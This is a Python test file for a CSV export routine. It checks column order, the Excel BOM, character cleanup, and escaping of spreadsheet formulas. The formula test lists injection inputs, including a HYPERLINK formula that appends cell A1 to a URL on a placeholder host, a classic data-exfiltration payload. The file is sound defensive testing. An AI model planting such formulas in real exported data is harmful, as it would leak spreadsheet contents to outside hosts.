"""CSV for other programs, harmless when somebody opens it in a spreadsheet after all."""

import csv
import io
from datetime import date, datetime

import pytest

from handlers.sheets import Column, Kind, Sheet, write_csv

COLUMNS = (
    Column("no", "序号", 6, Kind.NUMBER),
    Column("note", "说明", 30),
    Column("due", "时限", 12, Kind.DATE),
    Column("sent", "提交", 16, Kind.DATETIME),
    Column("photos", "照片", 10, Kind.PHOTO),
)


def read(stored: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(stored.decode("utf-8-sig"), newline="")))


def note_of(written: str) -> str:
    return read(write_csv(Sheet("检查", COLUMNS, [{"note": written}])))[1][1]


def test_rows_are_read_back_in_the_order_of_the_columns():
    row = {"sent": datetime(2018, 8, 6, 8, 31), "due": "2018-08-13", "note": "灯不亮", "no": -1, "photos": ("a", "b")}
    assert read(write_csv(Sheet("检查", COLUMNS, [row, {}]))) == [
        ["序号", "说明", "时限", "提交", "照片"],
        ["-1", "灯不亮", "2018-08-13", "2018-08-06 08:31", "2"],
        ["", "", "", "", ""],
    ]


def test_excel_is_told_the_encoding():
    assert write_csv(Sheet("检查", COLUMNS, [])).startswith(b"\xef\xbb\xbf")


@pytest.mark.parametrize("written", ['=HYPERLINK("http://x?"&A1)', "+1", "-1", "@SUM", "\t=1", "\n=1", "＝1+1"])
def test_formulas_are_quoted(written):
    assert note_of(written) == "'" + written


@pytest.mark.parametrize("written", ['他说："有, 烟蒂"', "一\n二", "2-1", "a=b", "𠮷", " 空格"])
def test_other_texts_are_left_alone(written):
    assert note_of(written) == written


def test_what_no_reader_accepts_is_mended():
    assert note_of("有\x00烟蒂\ud83d") == "有烟蒂\ufffd"


def test_a_date_column_with_words_in_it_is_quoted_too():
    stored = write_csv(Sheet("检查", COLUMNS, [{"due": "=1", "sent": date(2018, 8, 6)}]))
    assert read(stored)[1][2:4] == ["'=1", "2018-08-06"]
